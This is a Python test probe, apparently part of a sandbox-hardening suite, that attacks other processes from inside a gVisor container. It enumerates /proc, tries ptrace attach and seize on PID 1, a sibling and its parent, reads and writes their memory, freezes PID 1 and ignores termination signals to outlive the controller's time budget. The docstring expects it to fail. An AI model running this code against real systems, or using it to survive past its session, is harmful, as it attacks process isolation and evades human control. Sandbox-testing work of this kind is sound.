"""Attack: take over another process: PID 1, a sibling, anything visible; read or write its memory.

Lists every process it can see (a host process or the controller in view would be the real prize),
then tries PTRACE_ATTACH and PTRACE_SEIZE on PID 1 (the container's init), on a sibling (a second
child of the same parent, not a descendant of the tracer) and on its parent; reads their memory
with process_vm_readv and /proc/PID/mem, and writes it with process_vm_writev. If attaching to PID 1
works, it keeps PID 1 stopped and ignores SIGTERM, hoping that an init that cannot forward signals
lets it outlive the budget: the controller's SIGKILL must still end the trial.

Prints `ATTACK {"visible": [...], "targets": {...}}`. Expected: timeout (it waits for the budget).
Every process visible is the candidate's own (same uid, no capabilities), so nothing it could
attach to holds more than it has; gVisor also refuses non-descendants (Yama scope 1).
"""

import ctypes
import errno
import json
import os
import signal
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.process_vm_readv.restype = ctypes.c_ssize_t
libc.process_vm_writev.restype = ctypes.c_ssize_t
PTRACE_ATTACH, PTRACE_DETACH, PTRACE_SEIZE = 16, 17, 0x4206
WALL = 0x40000000  # __WALL


class IOVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def errname(err):
    return errno.errorcode.get(err, str(err))


def status_of(pid):
    fields = {}
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                key, _, value = line.partition(":")
                if key in ("Name", "Uid", "CapEff", "PPid", "TracerPid"):
                    fields[key] = value.split()[0] if key == "Uid" else value.strip()
    except OSError as exc:
        fields["error"] = errname(exc.errno)
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            fields["cmdline"] = f.read().replace(b"\0", b" ").decode(errors="replace").strip()[:200]
    except OSError as exc:
        fields["cmdline"] = errname(exc.errno)
    return fields


def first_mapping(pid):
    """Address of the first readable mapping of pid (from /proc/PID/maps), or None."""
    try:
        with open(f"/proc/{pid}/maps") as f:
            for line in f:
                span, perms = line.split()[:2]
                if perms.startswith("r"):
                    return int(span.split("-")[0], 16)
    except OSError:
        return None
    return None


def read_memory(pid, out):
    addr = first_mapping(pid) or 0x400000
    buf = ctypes.create_string_buffer(64)
    local, remote = IOVec(ctypes.addressof(buf), 64), IOVec(addr, 64)
    ctypes.set_errno(0)
    n = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    out["process_vm_readv"] = f"read {n} bytes" if n > 0 else errname(ctypes.get_errno())
    ctypes.set_errno(0)
    n = libc.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)  # same bytes back
    out["process_vm_writev"] = f"wrote {n} bytes" if n > 0 else errname(ctypes.get_errno())
    try:
        with open(f"/proc/{pid}/mem", "rb") as f:
            f.seek(addr)
            out["proc_mem"] = f"read {len(f.read(64))} bytes"
    except OSError as exc:
        out["proc_mem"] = errname(exc.errno)


def attack(pid, keep=False):
    out = {"status": status_of(pid)}
    ctypes.set_errno(0)
    ret = libc.ptrace(PTRACE_ATTACH, pid, None, None)
    out["attach"] = "ok" if ret == 0 else errname(ctypes.get_errno())
    if ret == 0:
        os.waitpid(pid, WALL)  # the attach stop
        out["tracer_pid_seen"] = status_of(pid).get("TracerPid")
        if not keep:
            libc.ptrace(PTRACE_DETACH, pid, None, None)
    else:
        ctypes.set_errno(0)
        ret = libc.ptrace(PTRACE_SEIZE, pid, None, None)
        out["seize"] = "ok" if ret == 0 else errname(ctypes.get_errno())
        if ret == 0 and not keep:
            libc.ptrace(PTRACE_DETACH, pid, None, None)
    read_memory(pid, out)
    return out


def sibling_attack(target_pid):
    """Fork an attacker that is the target's sibling (not its ancestor) and report what it got."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        os.write(w, json.dumps(attack(target_pid)).encode())
        os._exit(0)
    os.close(w)
    data = b""
    while chunk := os.read(r, 65536):
        data += chunk
    os.waitpid(pid, 0)
    return json.loads(data or b"{}")


visible = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
report = {"self": os.getpid(), "visible": {str(p): status_of(p) for p in visible}, "targets": {}}

sleeper = os.fork()
if sleeper == 0:
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    while True:
        time.sleep(1)
report["targets"]["sibling"] = sibling_attack(sleeper)
if os.getppid() != 1:
    report["targets"]["parent"] = attack(os.getppid())
for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
    signal.signal(sig, signal.SIG_IGN)
report["targets"]["pid1"] = attack(1, keep=True)  # keep PID 1 stopped if we got it
print("ATTACK " + json.dumps(report), flush=True)
while True:
    time.sleep(0.5)  # wait for the controller's clock
